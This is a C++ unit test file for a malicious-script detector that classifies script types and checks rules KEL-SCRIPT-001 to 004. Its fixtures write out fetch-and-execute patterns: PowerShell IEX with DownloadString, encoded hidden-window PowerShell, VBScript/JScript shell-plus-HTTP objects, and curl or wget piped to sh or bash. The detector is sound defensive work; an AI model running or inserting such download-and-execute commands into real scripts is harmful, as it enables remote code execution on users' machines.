#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "av/script_review.h"

namespace {

std::vector<std::string> ids(const av::ScriptReview& r) {
  std::vector<std::string> out;
  for (const auto& f : r.findings) out.push_back(f.id);
  return out;
}

av::ScriptReview review(const std::string& name, const std::string& content) {
  return av::review_script(as_bytes(content), name);
}

// Text padded with spaces-free filler so that folding keeps offsets stable.
std::string at_offsets(std::size_t total, std::vector<std::pair<std::size_t, std::string>> placed) {
  std::string s(total, 'x');
  for (std::size_t i = 63; i < total; i += 64) s[i] = '\n';
  for (const auto& [offset, token] : placed) {
    s[offset - 1] = ' ';
    s.replace(offset, token.size(), token);
    s[offset + token.size()] = ' ';
  }
  return s;
}

std::string utf16(const std::string& ascii, bool little_endian, bool bom) {
  std::string out;
  if (bom) out += little_endian ? "\xFF\xFE" : "\xFE\xFF";
  for (const char c : ascii) {
    if (little_endian) {
      out += c;
      out += '\0';
    } else {
      out += '\0';
      out += c;
    }
  }
  return out;
}

struct KindCase {
  std::string name;
  std::string content;
  std::string kind;  // empty: not a script
};

TEST(ScriptReviewKind, DecidedByTheLastExtensionOrAShellFirstLine) {
  const std::vector<KindCase> cases = {
      {"payload.PS1", "", "PowerShell"},
      {"archive.tar.ps1", "", "PowerShell"},
      {"m.psm1", "", "PowerShell"},
      {"m.PSD1", "", "PowerShell"},
      {"C:\\Users\\x\\run.BAT", "", "CommandScript"},
      {"x.cmd", "", "CommandScript"},
      {"a.js", "", "WindowsScript"},
      {"a.jse", "", "WindowsScript"},
      {"a.vbs", "", "WindowsScript"},
      {"a.vbe", "", "WindowsScript"},
      {"a.hta", "", "WindowsScript"},
      {"a.sh", "", "Shell"},
      {"a.bash", "", "Shell"},
      {"a.zsh", "", "Shell"},
      {"outer.zip!inner/x.ps1", "", "PowerShell"},
      {"dir.ps1/readme", "", ""},             // only the part after the last "/" counts
      {"dir.ps1\\readme", "", ""},            // ... or "\"
      {".bashrc", "#!/bin/bash\n", ""},       // the extension is ".bashrc"
      {"script.ps1.txt", "", ""},
      {"ps1", "", ""},
      {"run", "#!/bin/bash\necho hi\n", "Shell"},
      {"run.txt", "#!/bin/bash\necho hi\n", ""},
      {"run", "#!/bin/sh -e\n", "Shell"},
      {"run", "#!/usr/bin/env bash", "Shell"},
      {"run", "#!/bin/zsh\r\n", "Shell"},
      {"run", "#!/USR/BIN/ENV BASH\n", "Shell"},
      {"run", "#!/usr/bin/fish\n", ""},
      {"run", "#!/usr/bin/python\nimport sh\n", ""},  // only the first line counts
      {"run", "#!" + std::string(300, ' ') + "sh\n", ""},  // beyond offset 256
      {"run", "#!" + std::string(250, ' ') + "sh\n", "Shell"},
      {"run", " #!/bin/sh\n", ""},
      {"run", "\xEF\xBB\xBF#!/bin/sh\n", ""},
      {"a.zip!run", "#!/bin/sh\n", "Shell"},
      {"", "#!/bin/sh", "Shell"},
      {"", "", ""},
  };
  for (const auto& c : cases) {
    const auto r = review(c.name, c.content);
    EXPECT_EQ(r.kind, c.kind) << c.name;
    EXPECT_EQ(r.is_script, !c.kind.empty()) << c.name;
  }
}

TEST(ScriptReviewKind, NonScriptsAreNeverReviewed) {
  // Not a script: no findings and never incomplete, whatever the content.
  const auto r = review("notes.txt", std::string(2 * 1048576, '\x01') + "IEX DownloadString #@~^");
  EXPECT_FALSE(r.is_script);
  EXPECT_FALSE(r.incomplete);
  EXPECT_TRUE(r.findings.empty());
}

struct RuleCase {
  const char* what;
  std::string name;
  std::string content;
  std::vector<std::string> expected;
  bool incomplete = false;
};

TEST(ScriptReviewRules, Table) {
  const std::string s001 = "IEX (New-Object Net.WebClient).DownloadString($u)\n";
  const std::string vbs003 =
      "Set sh = CreateObject(\"WScript.Shell\")\n"
      "Set x = CreateObject(\"MSXML2.XMLHTTP\")\n"
      "sh.Run \"cmd /c calc\", 0\n";
  const std::vector<RuleCase> cases = {
      {"001 basic", "a.ps1", s001, {"KEL-SCRIPT-001"}},
      {"001 in a command script", "a.cmd", s001, {"KEL-SCRIPT-001"}},
      {"001 behind a # comment", "a.ps1", "# " + s001, {}},
      {"001 inside a block comment", "a.ps1", "<# " + s001 + "#>\n", {}},
      {"001 after a block comment closes", "a.ps1", "<# note #> " + s001, {"KEL-SCRIPT-001"}},
      {"001 inside a string literal", "a.ps1", "$s = '" + s001 + "'\n", {"KEL-SCRIPT-001"}},
      {"001 # inside a string is not a comment", "a.ps1", "$s = \"#\"; " + s001, {"KEL-SCRIPT-001"}},
      {"001 backtick escapes the quote", "a.ps1", "$s = \"`\"# still a string\"; " + s001, {"KEL-SCRIPT-001"}},
      {"001 needs both halves", "a.ps1", "(New-Object Net.WebClient).DownloadString($u)\n", {}},
      {"001 iex inside a longer word", "a.ps1", "DownloadString x_iex\n", {}},
      {"001 invoke-webrequest and scriptblock", "a.ps1",
       "$b = ScriptBlock::Create((Invoke-WebRequest $u).Content)\n", {"KEL-SCRIPT-001"}},
      // The token is "scriptblock::create" as one run of text; the bracketed
      // type literal does not contain it.
      {"001 bracketed type literal", "a.ps1", "[ScriptBlock]::Create((Invoke-RestMethod $u))\n", {}},
      {"001 not for shell scripts", "a.sh", s001, {}},
      {"001 not for windows scripts", "a.js", s001, {}},
      {"002 basic in cmd", "a.cmd", "powershell -enc AAAA -w hidden\n", {"KEL-SCRIPT-002"}},
      {"002 folded spaces", "a.ps1", "powershell -EncodedCommand AAAA -WindowStyle   \t Hidden\n",
       {"KEL-SCRIPT-002"}},
      {"002 quoted hidden", "a.ps1", "powershell -enc AAAA -windowstyle \"hidden\"\n", {"KEL-SCRIPT-002"}},
      {"002 -enc must be a word", "a.ps1", "powershell x-enc AAAA -w hidden\n", {}},
      {"002 -w hiddenx is not hidden", "a.ps1", "powershell -enc AAAA -w hiddenx\n", {}},
      {"002 rem comment hides it", "a.bat", "  rem powershell -enc AAAA -w hidden\n", {}},
      {"002 :: comment hides it", "a.bat", "\t:: powershell -enc AAAA -w hidden\n", {}},
      {"002 rem only at line start", "a.bat", "echo rem powershell -enc AAAA -w hidden\n", {"KEL-SCRIPT-002"}},
      {"002 remark is not rem", "a.bat", "remark powershell -enc AAAA -w hidden\n", {"KEL-SCRIPT-002"}},
      {"002 # is not a comment in cmd", "a.bat", "# powershell -enc AAAA -w hidden\n", {"KEL-SCRIPT-002"}},
      {"001 and 002 together", "a.ps1", s001 + "powershell -enc AAAA -w hidden\n",
       {"KEL-SCRIPT-001", "KEL-SCRIPT-002"}},
      {"003 vbs", "a.vbs", vbs003, {"KEL-SCRIPT-003"}},
      {"003 vbs behind ' comments", "a.vbs",
       "' Set sh = CreateObject(\"WScript.Shell\")\n' Set x = CreateObject(\"MSXML2.XMLHTTP\")\n' sh.Run \"c\"\n",
       {}},
      {"003 one line behind a ' comment", "a.vbs",
       "Set sh = CreateObject(\"WScript.Shell\")\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\n' sh.Run \"c\"\n", {}},
      {"003 jscript", "a.js",
       "var s = new ActiveXObject('Shell.Application'); var h = new ActiveXObject('WinHttp.WinHttpRequest.5.1');\n"
       "s.ShellExecute('cmd');\n",
       {"KEL-SCRIPT-003"}},
      {"003 jscript // comment", "a.js",
       "var s = new ActiveXObject('Shell.Application'); var h = new ActiveXObject('MSXML2.XMLHTTP');\n"
       "// s.ShellExecute('cmd');\n",
       {}},
      {"003 jscript block comment", "a.hta",
       "var s = new ActiveXObject('WScript.Shell'); /* var h = new ActiveXObject('MSXML2.XMLHTTP'); */ s.run(1);\n",
       {}},
      {"003 run must be a method call", "a.vbs",
       "Set sh = CreateObject(\"WScript.Shell\")\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nRun \"c\"\n", {}},
      {"003 .runner is not .run", "a.vbs",
       "Set sh = CreateObject(\"WScript.Shell\")\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nsh.Runner\n", {}},
      {"003 ' is a comment in vbs but a quote in js", "a.js",
       "x = ' y'; var s = new ActiveXObject('WScript.Shell'); var h = 'MSXML2.XMLHTTP'; s.Run(1);\n",
       {"KEL-SCRIPT-003"}},
      {"003 not for powershell", "a.ps1", vbs003, {}},
      {"004 curl to sh", "a.sh", "curl -s $URL | sh\n", {"KEL-SCRIPT-004"}},
      {"004 wget to bash", "a.sh", "wget -qO- http://x | /bin/bash -s\n", {"KEL-SCRIPT-004"}},
      {"004 |bash after a blank", "a.sh", "curl -s $URL |bash\n", {"KEL-SCRIPT-004"}},
      {"004 | follows a word character", "a.sh", "curl -s $URL|sh\n", {}},
      {"004 split over two lines", "a.sh", "curl -s $URL\n| sh\n", {}},
      {"004 | shx is not sh", "a.sh", "curl -s $URL | shx\n", {}},
      {"004 behind a comment", "a.sh", "# curl -s $URL | sh\n", {}},
      {"004 extensionless with a shebang", "run", "#!/bin/sh\ncurl -fsSL https://x | bash\n", {"KEL-SCRIPT-004"}},
      {"004 CRLF lines", "a.sh", "curl -s $URL | sh\r\n", {"KEL-SCRIPT-004"}},
      {"004 not for powershell", "a.ps1", "curl -s $URL | sh\n", {}},
      {"clean powershell", "a.ps1", "Write-Host 'hello'\n", {}},
      {"UTF-16LE with BOM", "a.ps1", utf16(s001, true, true), {"KEL-SCRIPT-001"}},
      {"UTF-16BE with BOM", "a.ps1", utf16(s001, false, true), {"KEL-SCRIPT-001"}},
      {"UTF-16LE without BOM", "a.ps1", utf16(s001, true, false), {}, true},
      {"UTF-16 odd byte", "a.ps1", utf16(s001, true, true) + "X", {"KEL-SCRIPT-001"}, true},
      {"UTF-8 BOM skipped", "a.ps1", "\xEF\xBB\xBF" + s001, {"KEL-SCRIPT-001"}},
      // Non-ASCII becomes "_", a word character: glued to a token it hides the token.
      {"non-ASCII before a token", "a.ps1", "IEX \xC3\xA9" "DownloadString\n", {}},
      {"non-ASCII after a token", "a.ps1", "IEX DownloadString\xC3\xA9\n", {}},
      {"non-ASCII apart from the tokens", "a.ps1", "IEX DownloadString \xC3\xA9\n", {"KEL-SCRIPT-001"}},
      {"control character", "a.ps1", "\x01" + s001, {"KEL-SCRIPT-001"}, true},
      {"NUL splits a word but still a blank", "a.ps1", std::string("IEX\0DownloadString\n", 19), {"KEL-SCRIPT-001"},
       true},
      {"encoded script marker", "a.vbe", "#@~^AAAAAA==^#~@", {}, true},
      {"form feed is a control character", "a.sh", "echo\f\n", {}, true},
  };
  for (const auto& c : cases) {
    const auto r = review(c.name, c.content);
    EXPECT_TRUE(r.is_script) << c.what;
    EXPECT_EQ(ids(r), c.expected) << c.what;
    EXPECT_EQ(r.incomplete, c.incomplete) << c.what;
  }
}

TEST(ScriptReviewRules, DescriptionsAreReportedVerbatim) {
  auto r = review("a.ps1", "IEX DownloadString\npowershell -enc A -w hidden\n");
  ASSERT_EQ(r.findings.size(), 2u);
  EXPECT_EQ(r.findings[0].description, "Remote retrieval combined with dynamic PowerShell evaluation");
  EXPECT_EQ(r.findings[1].description, "Encoded command combined with hidden-window execution");
  r = review("a.vbs", "CreateObject WScript.Shell XMLHTTP x.Run\n");
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].description, "Windows scripting combines network retrieval and shell execution");
  r = review("a.sh", "curl x | sh");
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].description, "Network response is piped to a shell interpreter");
}

TEST(ScriptReviewWindows, AllTokensOfARuleMustShareOneWindow) {
  struct Case {
    std::size_t a, b;
    bool match;
  };
  // Windows are [0, 4096), [2048, 6144), [4096, 6000).
  for (const Case& c : std::vector<Case>{{100, 3100, true}, {100, 5100, false}, {2100, 6000 - 20, true},
                                         {4000, 4090, true}, {1000, 4200, false}}) {
    const std::string text = at_offsets(6000, {{c.a, "downloadstring"}, {c.b, "iex"}});
    ASSERT_EQ(text.size(), 6000u);
    EXPECT_EQ(ids(review("a.ps1", text)).size(), c.match ? 1u : 0u) << c.a << " " << c.b;
  }
  // A token cut by a window's end is not seen in that window; the next window holds it whole.
  const std::string cut = at_offsets(6000, {{100, "iex"}, {4090, "downloadstring"}});
  EXPECT_TRUE(ids(review("a.ps1", cut)).empty());
}

TEST(ScriptReviewWindows, WindowEdgesAreWordBoundaries) {
  // "iex" starts the second window right after a word character: the window's
  // start counts as a boundary.
  std::string filler(2047, 'a');
  for (std::size_t i = 50; i < filler.size(); i += 50) filler[i] = '\n';
  const std::string s = filler + "xiex downloadstring";  // offset 2048 is "i"
  EXPECT_EQ(ids(review("a.ps1", s)), std::vector<std::string>{"KEL-SCRIPT-001"});
}

TEST(ScriptReviewLimits, OnlyTheFirstMebibyteIsReviewed) {
  std::string big(2 * 1048576, 'a');
  for (std::size_t i = 80; i < big.size(); i += 80) big[i] = '\n';
  const std::string head = "IEX DownloadString\n";
  const std::string early = head + big;
  auto r = review("big.ps1", early);
  EXPECT_TRUE(r.incomplete);
  EXPECT_EQ(ids(r), std::vector<std::string>{"KEL-SCRIPT-001"});

  std::string late = big;
  late.replace(1048576 + 100, head.size(), head);
  r = review("big.ps1", late);
  EXPECT_TRUE(r.incomplete);
  EXPECT_TRUE(r.findings.empty());

  r = review("exact.ps1", std::string(1048576, 'a'));
  EXPECT_FALSE(r.incomplete);
  r = review("over.ps1", std::string(1048577, 'a'));
  EXPECT_TRUE(r.incomplete);
}

TEST(ScriptReviewLimits, UnterminatedCommentsAndStringsEndWithTheInput) {
  for (const std::string& s : {std::string("<# never closed"), std::string("\"never closed `"), std::string("`"),
                               std::string("<"), std::string("#"), std::string("'")}) {
    const auto r = review("a.ps1", s);
    EXPECT_TRUE(r.findings.empty());
    EXPECT_FALSE(r.incomplete);
  }
  EXPECT_TRUE(review("a.js", "/* never closed IEX").findings.empty());
  EXPECT_TRUE(review("a.bat", "rem").findings.empty());
}

}  // namespace
